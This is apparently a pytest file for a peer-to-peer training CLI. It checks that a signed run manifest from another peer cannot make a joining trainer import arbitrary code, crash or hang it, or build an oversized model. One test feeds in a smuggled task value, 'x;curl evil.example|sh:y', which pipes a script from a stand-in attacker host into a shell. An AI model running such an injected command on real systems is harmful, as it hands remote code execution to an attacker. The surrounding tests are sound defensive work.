"""A run's manifest is a signed DHT record, but its author is just another peer: what it can make a
joiner do. It may name a built-in task, with arguments in their declared ranges and a model under
--max-params; code (module:function) runs only when the joiner's own user names it (--task,
--trust-task). Before: a manifest naming ``os:abort`` killed the joiner, ``signal:pause`` hung it, any
importable module ran, and ``task_args.hidden = 12000`` built a 145M-parameter digits model.

Each manifest goes the way a joiner reads it: sealed by its author (``records.seal``), opened and
verified (``records.open_record``), parsed (``Manifest.from_payload``), adopted by ``RunSettings``
(``manifest.resolve``), then ``lioncub-train``'s own ``run()`` (or ``--preflight``) with the DHT
replaced by a stand-in that serves it.
"""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import types
from pathlib import Path

import pytest
import torch
from hivemind.utils import get_dht_time

from lioncub_p2p.cli import preflight, train
from lioncub_p2p.codecs import upload_codec
from lioncub_p2p.identity import Identity, Verifier
from lioncub_p2p.optim import LionCub
from lioncub_p2p.swarm import Manifest, records
from lioncub_p2p.swarm import manifest as manifests
from lioncub_p2p.swarm.errors import SettingsMismatch
from lioncub_p2p.swarm.settings import RunSettings
from lioncub_p2p.tasks import digits as digits_module

RUN = "demo"
LOOPBACK = ["--host-maddrs", "/ip4/127.0.0.1/tcp/0"]
STRANGER = "stranger_task"  # a module in tmp_path: importing it leaves a marker file, calling make() a record
STRANGER_CODE = textwrap.dedent('''
    from pathlib import Path

    import torch
    from torch import nn

    Path(__file__).with_name("imported.marker").write_text("imported")  # what any code of a stranger's could do
    CALLS = []


    def make(seed, hidden=None):
        CALLS.append(hidden)
        torch.manual_seed(seed)
        return nn.Linear(4, hidden or 2), [torch.ones(3, 4)], lambda m, b: m(b).pow(2).mean()
''')


class Joined(Exception):
    """Raised by the stand-in swarm's join: the trainer got as far as joining, with this optimizer."""

    def __init__(self, optimizer: LionCub):
        super().__init__("joined")
        self.params = sum(p.numel() for group in optimizer.param_groups for p in group["params"])


@pytest.fixture(scope="module")
def author() -> Identity:
    return Identity.load_or_create(None)


def signed_manifest(author: Identity, payload: dict) -> Manifest:
    """The run's manifest as a joiner reads it from the DHT: sealed, opened and verified, parsed."""
    expiration = get_dht_time() + 60
    value = records.seal(author, RUN, "manifest", expiration, payload)
    return Manifest.from_payload(records.open_record(Verifier(), RUN, "manifest", author.peer_id, value, expiration))


@pytest.fixture
def serve(monkeypatch):
    """serve(manifest): lioncub-train (and its preflight) find that run manifest instead of starting a DHT."""
    def install(run: Manifest) -> None:
        class JoinerSwarm:
            def __init__(self, config):
                settings = RunSettings(config.run_id, config.manifest)
                settings.adopt(run)  # what Swarm does with the manifest it reads (manifest.resolve)
                self.config, self.manifest = config, settings.current
                self.listen_plan = types.SimpleNamespace(note="", reachability=None)
                self.upload, self.peer_id = upload_codec("sign"), "joiner"
                self.history = types.SimpleNamespace(latest=None)
                self.directory = types.SimpleNamespace(peers=lambda: None)
                self.loop = types.SimpleNamespace(run=lambda _, timeout: {})

            def visible_maddrs(self) -> list[str]:
                return []

            def join(self, optimizer, wait_peers=0):
                raise Joined(optimizer)

            def shutdown(self) -> None:
                pass

        monkeypatch.setattr(train, "Swarm", JoinerSwarm)
        monkeypatch.setattr(preflight, "Swarm", JoinerSwarm)

    threads = torch.get_num_threads()
    yield install
    torch.set_num_threads(threads)  # lioncub-train sets 1 for volunteers' machines


@pytest.fixture
def stranger(tmp_path, monkeypatch):
    """The stranger's module, importable (tmp_path on sys.path); records what reached the task code."""
    (tmp_path / f"{STRANGER}.py").write_text(STRANGER_CODE)
    monkeypatch.syspath_prepend(str(tmp_path))
    seen = types.SimpleNamespace(loaded=[], called=[], marker=tmp_path / "imported.marker")
    real_load = train.load_task
    monkeypatch.setattr(train, "load_task", lambda spec, **options: seen.loaded.append(spec) or real_load(spec, **options))
    for module, name in ((os, "abort"), (signal, "pause")):  # had they run: a dead or hung test, not a failed one
        monkeypatch.setattr(module, name, lambda *a, name=name, **k: seen.called.append(name))
    yield seen
    sys.modules.pop(STRANGER, None)


def refused(argv: list[str], capsys, *words: str) -> str:
    """lioncub-train ends with one 'error: ...' line containing each of ``words``, without a traceback;
    returns what it printed before, and the line."""
    with pytest.raises(SystemExit) as exited:
        train.main([*argv, "--run-id", RUN, *LOOPBACK])
    message = exited.value.code
    assert isinstance(message, str) and message.startswith("error: ") and "\n" not in message, message
    for word in words:
        assert word in message, f"{word!r} not in {message!r}"
    printed = "".join(capsys.readouterr())
    assert "Traceback" not in printed
    return printed + message


def joins(argv: list[str]) -> int:
    """lioncub-train gets as far as joining; returns the parameter count of the model it joins with."""
    with pytest.raises(Joined) as joined:
        train.main([*argv, "--run-id", RUN, *LOOPBACK, "--quiet"])
    return joined.value.params


@pytest.mark.parametrize("mode", [[], ["--preflight"]])
@pytest.mark.parametrize("task", ["os:abort", "signal:pause", f"{STRANGER}:make"])
def test_code_a_manifest_names_is_refused_and_nothing_imported(author, serve, stranger, capsys, task, mode):
    serve(signed_manifest(author, {"task": task}))
    printed = refused(mode, capsys, f"run {RUN} trains task {task!r}", "code the run's manifest names, not you",
                      f"pass --task {task} (or --trust-task {task})")
    assert ("[WARN] no --initial-peers" in printed) == bool(mode)  # the preflight got as far as the task
    assert stranger.loaded == [] and stranger.called == []
    assert not stranger.marker.exists() and STRANGER not in sys.modules


def test_a_task_name_that_is_not_code_is_refused_without_a_command_to_copy(author, serve, stranger, capsys):
    """Text a stranger wrote is not offered back as a command line to paste."""
    serve(signed_manifest(author, {"task": "x;curl evil.example|sh:y"}))
    message = refused([], capsys, "neither a built-in task (digits, byte-gpt) nor module:function")
    assert "--task x;" not in message and stranger.loaded == []


def test_the_same_task_named_by_the_user_runs(author, serve, stranger, capsys):
    serve(signed_manifest(author, {"task": f"{STRANGER}:make"}))
    assert joins(["--task", f"{STRANGER}:make"]) == 4 * 2 + 2  # nn.Linear(4, 2)
    assert stranger.marker.exists() and sys.modules[STRANGER].CALLS == [None]


def test_trust_task_lets_exactly_the_listed_task_run(author, serve, stranger, capsys):
    serve(signed_manifest(author, {"task": f"{STRANGER}:make", "task_args": {"hidden": 3}}))
    for other in (f"{STRANGER}:other", f"{STRANGER}.sub:make", "os:abort"):
        refused(["--trust-task", other], capsys, f"--trust-task {STRANGER}:make")
    assert not stranger.marker.exists() and stranger.loaded == []
    assert joins(["--trust-task", "os:abort", f"{STRANGER}:make"]) == 4 * 3 + 3  # its task_args: hidden 3
    assert stranger.loaded == [f"{STRANGER}:make"] and sys.modules[STRANGER].CALLS == [3] and stranger.called == []
    serve(signed_manifest(author, {"task": "os:abort"}))
    refused(["--trust-task", f"{STRANGER}:make"], capsys, "'os:abort'", "--trust-task os:abort")
    assert stranger.called == []


def test_trusted_code_gets_only_the_task_args_lioncub_train_passes(author, serve, stranger, capsys):
    serve(signed_manifest(author, {"task": f"{STRANGER}:make", "task_args": {"hidden": 3, "depth": 2}}))
    refused(["--trust-task", f"{STRANGER}:make"], capsys, f"run {RUN}'s task_args.depth=2",
            "passes a task function only hidden")
    serve(signed_manifest(author, {"task": f"{STRANGER}:make", "task_args": {"hidden": "3"}}))
    refused(["--trust-task", f"{STRANGER}:make"], capsys, "task_args.hidden='3'", "a positive integer")
    assert not stranger.marker.exists()


@pytest.fixture
def nothing_built(monkeypatch):
    """Fails the test if the digits task or a digits model is built; returns the parameters allocated
    (off the meta device) in the meantime, as (device type, numel)."""
    def refuse(*args, **kwargs):
        raise AssertionError("the digits model was built")

    monkeypatch.setattr(digits_module, "digits", refuse)
    monkeypatch.setattr(digits_module.Task, "make_model", refuse)
    return allocated_parameters(monkeypatch)


def allocated_parameters(monkeypatch) -> list[tuple[str, int]]:
    """(device type, numel) of every parameter registered from now on that holds memory (not on "meta")."""
    found: list[tuple[str, int]] = []
    register = torch.nn.Module.register_parameter

    def recording(self, name, param):
        if param is not None and param.device.type != "meta":
            found.append((param.device.type, param.numel()))
        return register(self, name, param)

    monkeypatch.setattr(torch.nn.Module, "register_parameter", recording)
    return found


@pytest.mark.parametrize("task_args, words", [
    ({"hidden": 12000}, ["task_args.hidden=12000", "task digits takes hidden as an integer from 1 to 4096"]),
    ({"hidden": 0}, ["task_args.hidden=0", "from 1 to 4096"]),
    ({"hidden": "256"}, ["task_args.hidden='256'", "an integer"]),
    ({"hidden": 256.0}, ["task_args.hidden=256.0", "an integer"]),
    ({"hidden": True}, ["task_args.hidden=True", "an integer"]),
    ({"depth": 3}, ["task_args.depth=3", "task digits takes no argument 'depth' (it takes hidden)"]),
])
def test_task_args_a_builtin_does_not_take_are_refused_before_building(author, serve, nothing_built, capsys,
                                                                       task_args, words):
    serve(signed_manifest(author, {"task": "digits", "task_args": task_args}))
    refused([], capsys, f"run {RUN}'s", *words)
    assert nothing_built == []  # 12000 wide: 145M parameters, 580 MB of weights alone


@pytest.mark.parametrize("hidden, words", [
    (30, ["task_args.hidden=30", "a multiple of its 4 attention heads from 8 to 1024"]),
    (2048, ["task_args.hidden=2048", "from 8 to 1024"]),
])
def test_byte_gpt_widths_out_of_range_are_refused(author, serve, capsys, monkeypatch, hidden, words):
    from lioncub_p2p.tasks import byte_gpt

    monkeypatch.setattr(byte_gpt, "byte_gpt", lambda **_: pytest.fail("the byte-gpt task was built"))
    serve(signed_manifest(author, {"task": "byte-gpt", "task_args": {"hidden": hidden}}))
    refused([], capsys, *words)


def test_task_args_in_range_build_that_model(author, serve, capsys):
    serve(signed_manifest(author, {"task": "digits", "task_args": {"hidden": 16}}))
    assert joins([]) == 64 * 16 + 16 + 16 * 16 + 16 + 16 * 10 + 10


def test_max_params_refuses_a_run_said_to_be_larger_before_building(author, serve, nothing_built, capsys):
    serve(signed_manifest(author, {"task": "digits", "param_count": 150_000_000}))
    refused([], capsys, f"run {RUN}'s model has 150,000,000 parameters (its manifest says)",
            "more than --max-params 100,000,000")
    refused(["--max-params", "1000"], capsys, "more than --max-params 1,000")
    serve(signed_manifest(author, {"task": "digits", "param_count": 85_002}))  # 256 wide: what digits builds
    refused(["--max-params", "85001"], capsys, "85,002 parameters (its manifest says)")


def test_max_params_refuses_a_builtin_before_building_and_any_model_after(author, serve, stranger, nothing_built,
                                                                           capsys):
    serve(signed_manifest(author, {"task": "digits", "task_args": {"hidden": 16}}))
    refused(["--max-params", "1481"], capsys, "task digits with hidden 16 has 1,482 parameters",
            "more than --max-params 1,481", "lower --hidden")
    assert nothing_built == []  # counted on the meta device
    serve(signed_manifest(author, {"task": f"{STRANGER}:make"}))
    refused(["--task", f"{STRANGER}:make", "--max-params", "9"], capsys,
            f"--task {STRANGER}:make built a model of 10 parameters, more than --max-params 9")
    assert sys.modules[STRANGER].CALLS == [None]  # built (its size is its own code's), refused before joining


def test_a_model_of_another_layout_names_what_the_run_says():
    """The line a joiner with another model gets names the run's task and arguments, or, when its manifest
    names no task, the run's parameter count and whom to ask (before: "task ?, {}")."""
    def settle(settings: RunSettings, model: torch.nn.Module, founding: bool) -> None:
        applied = Manifest(**{name: getattr(settings.current, name) for name in manifests.SWARM_FIELDS})
        settings.settle(LionCub(model.named_parameters(), lr=1e-3), applied, founding=founding)

    def joiner_against(run: Manifest) -> str:
        founder = RunSettings("r", run)
        settle(founder, torch.nn.Linear(4, 2), founding=True)
        joiner = RunSettings("r", Manifest())
        joiner.adopt(founder.run)
        with pytest.raises(SettingsMismatch) as e:
            settle(joiner, torch.nn.Linear(5, 2), founding=False)
        return str(e.value)

    anonymous = joiner_against(Manifest())
    assert "build the run's model of 10 parameters" in anonymous and "ask the run's organizer" in anonymous
    assert "?" not in anonymous and "{}" not in anonymous
    named = joiner_against(Manifest(task="digits", task_args={"hidden": 16}))
    assert named.endswith("build the run's model (task digits, hidden 16)"), named


@pytest.mark.slow
def test_a_coordinators_manifest_naming_code_stops_real_trainers_in_one_line(tmp_path):
    """End to end: a coordinator publishes a manifest naming importable code; lioncub-train, run from the
    folder that holds the module, stops with one line and never imports it. (Its preflight stops earlier
    here, nobody trains in this run yet: the in-process test above takes it as far as the task.)"""
    from procs import Processes, wait_for_file

    (tmp_path / f"{STRANGER}.py").write_text(STRANGER_CODE)
    (tmp_path / "run.yaml").write_text(f"task: '{STRANGER}:make'\n")
    procs = Processes(tmp_path)
    env = dict(os.environ, PYTHONUNBUFFERED="1", OMP_NUM_THREADS="1")
    try:
        procs.start("coord", ["lioncub_p2p.cli.coordinator", "--run-id", "man", *LOOPBACK, "--manifest", "run.yaml",
                              "--write-maddrs", str(tmp_path / "a")])
        wait_for_file(tmp_path / "a", 90)
        done = subprocess.run([sys.executable, "-m", "lioncub_p2p.cli.train", "--run-id", "man", *LOOPBACK, "--quiet",
                               "--initial-peers-file", str(tmp_path / "a"), "--steps", "1", "--linger", "0"],
                              cwd=tmp_path, capture_output=True, text=True, timeout=180, env=env)
    finally:
        procs.close()
    output = done.stdout + done.stderr
    assert done.returncode == 1, output[-3000:]
    errors = [line for line in output.splitlines() if line.startswith("error:")]
    assert errors == [f"error: run man trains task '{STRANGER}:make' (code the run's manifest names, not you): "
                      f"pass --task {STRANGER}:make (or --trust-task {STRANGER}:make) if you trust it and have "
                      f"its module"], output[-3000:]
    assert "Traceback" not in output and not (tmp_path / "imported.marker").exists()
